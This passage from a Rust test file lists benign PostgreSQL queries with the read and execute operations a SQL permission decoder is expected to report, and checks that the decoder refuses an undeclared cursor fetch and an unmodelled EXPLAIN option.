    ("usability", "SELECT 'payments'::regclass, 'x'::public.mood, NULL::payments[]", &["read sql:catalog", "read public.mood", "read public.payments"]),
    ("usability", "SELECT coalesce(1, 2), now()::timestamptz, '[1,2)'::int4range, 'a'::text", &["read sql:constant"]),
    ("usability", "SELECT \"coalesce\"(1), ifnull(1, 2), uuid_generate_v4()", &["execute public.coalesce", "execute public.ifnull", "execute public.uuid_generate_v4"]),
    ("usability", "DECLARE c CURSOR FOR SELECT * FROM orders; FETCH ALL FROM c", &["read public.orders"]),
    // 6. Usability.
    ("usability", "SELECT 1", &["read sql:constant"]),
    ("usability", "SELECT now(), pg_typeof(1)", &["read sql:constant"]),
    ("usability", "SELECT * FROM (VALUES (1, 'a')) v(n, s)", &["read sql:constant"]),
    ("usability", "WITH x AS (SELECT 1 AS n) SELECT n FROM x", &["read sql:constant"]),
    ("usability", "SELECT jsonb_array_elements_text('[\"a\"]'::jsonb)", &["read sql:constant"]),
    ("usability", "SELECT id FROM notes WHERE to_tsvector(body) @@ websearch_to_tsquery('cats') ORDER BY ts_rank(to_tsvector(body), to_tsquery('cats'))", &["read public.notes"]),
    ("usability", "SELECT regexp_count(note, 'a'), regexp_substr(note, 'b') FROM orders WHERE id = 'o-1'", &["read public.orders id=o-1"]),
    ("usability", "SELECT ts_stat('SELECT body FROM notes')", &["execute public.ts_stat"]),
];

#[test]
fn soundness_classes() {
    let d = decoder("postgres");
    let mut failures = Vec::new();
    for (class, sql, want) in SOUNDNESS {
        match d.classify("db", sql, &[]).map(|ops| show_full(&ops)) {
            Ok(got) if got == *want => {}
            other => failures.push(format!(
                "[{class}] {sql}\n   want {want:?}\n   got  {other:?}"
            )),
        }
    }
    assert!(
        failures.is_empty(),
        "{} mismatches:\n{}",
        failures.len(),
        failures.join("\n")
    );
    // Refused: a cursor this request did not declare (another request's query).
    assert!(d
        .classify("db", "SELECT 1; FETCH ALL FROM c", &[])
        .unwrap_err()
        .0
        .contains("which this request does not declare"));
    // Refused: an EXPLAIN option the decoder does not model.
    assert!(d
        .classify("db", "EXPLAIN (COSTS off, EXECUTE on) SELECT 1", &[])
        .unwrap_err()
        .0
        .contains("EXPLAIN option `EXECUTE` is not modelled"));
}
